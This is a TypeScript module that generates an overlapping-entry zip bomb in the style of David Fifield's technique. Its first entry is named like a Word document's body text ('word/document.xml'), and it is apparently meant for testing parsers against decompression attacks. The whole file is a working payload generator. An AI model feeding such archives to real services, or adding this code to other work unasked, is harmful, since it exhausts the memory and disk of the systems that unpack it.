import { crc32, deflateRawSync } from 'node:zlib';

const KERNEL_BYTES = 21 * 1024 * 1024;

/**
 * A zip file all of whose parts share one packed piece, after David Fifield's "A better zip bomb": a small file of a
 * directory that unpacks to many times what any part holds. One of them bears the name of a Word document's text.
 */
export function createOverlappingZip(parts: number): Uint8Array {
  const plain = Buffer.alloc(KERNEL_BYTES, ' ');
  const packed = deflateRawSync(plain, { level: 9 });
  const sum = crc32(plain);
  const names = Array.from({ length: parts }, (_, n) => (n === 0 ? 'word/document.xml' : `word/part${n}.xml`));
  const first = createHeader(0x04034b50, names[0]!, sum, packed.length, null);
  const directory = Buffer.concat(names.map((name) => createHeader(0x02014b50, name, sum, packed.length, 0)));
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(names.length, 8);
  end.writeUInt16LE(names.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(first.length + packed.length, 16);
  return Buffer.concat([first, packed, directory, end]);
}

/** A header of a part; with a place it is the one of the directory at the end. */
function createHeader(mark: number, name: string, sum: number, packed: number, place: number | null): Buffer {
  const inDirectory = place === null ? 0 : 2;
  const header = Buffer.alloc(place === null ? 30 : 46);
  header.writeUInt32LE(mark, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(8, 8 + inDirectory);
  header.writeUInt32LE(sum, 14 + inDirectory);
  header.writeUInt32LE(packed, 18 + inDirectory);
  header.writeUInt32LE(KERNEL_BYTES, 22 + inDirectory);
  header.writeUInt16LE(name.length, 26 + inDirectory);
  if (place !== null) header.writeUInt32LE(place, 42);
  return Buffer.concat([header, Buffer.from(name)]);
}
